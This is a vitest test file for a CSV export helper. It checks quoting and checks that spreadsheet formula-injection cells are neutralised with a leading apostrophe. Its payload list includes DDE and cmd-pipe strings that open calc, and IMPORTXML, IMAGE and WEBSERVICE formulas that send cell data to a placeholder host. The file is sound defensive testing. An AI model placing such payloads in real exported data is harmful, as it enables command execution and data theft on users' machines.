// A file that a spreadsheet reads.
import { describe, expect, it } from 'vitest'
import { csvFile, harmless } from './csv'

describe('rows as a file', () => {
  it('are read by every spreadsheet, and run by none', async () => {
    const text = await csvFile([
      ['Row', 'Column'],
      [5, 'Cell, mobile'],
      [6, '=1+1'],
      [7, 'the "good" one'],
    ]).text()
    expect(text.replace('\uFEFF', '')).toBe('Row,Column\r\n5,"Cell, mobile"\r\n6,\'=1+1\r\n7,"the ""good"" one"\r\n')
  })
})

/** The server's own table (shared/src/domain/intake/lead/export.rs). */
const PAYLOADS = [
  '=HYPERLINK("http://x")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  "=cmd|' /C calc'!A0",
  '-2-3',
  "+cmd|'x'",
  '@import',
  '=',
  '+',
  '-',
  '@',
  '-A1',
  '+A1',
  '=1+1";=1+1',
  '=IMPORTXML(CONCAT("http://x?", A1:Z99), "//a")',
  '=IMAGE("https://x/"&A1)',
  '=WEBSERVICE("https://x/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  '+1-1',
  '+(1)',
  '-(1)-1',
  ' \t=1',
  '   +A1',
  ' ＝1',
  '\r\n=1',
  '=\u200b1',
  '-1E9',
]

describe('a cell', () => {
  it('has forty ways to run, as on the server', () => expect(new Set(PAYLOADS).size).toBe(40))

  it.each(PAYLOADS)('that holds %j is marked', (cell) => expect(harmless(cell)).toBe(`'${cell}`))

  it.each(['+1 512 555 0142', '+15125550142', '(512) 555-0142', '-3.50', 'Ann = Bob', 'a@b.c', ''])(
    'that holds %j stays readable',
    (cell) => expect(harmless(cell)).toBe(cell),
  )
})
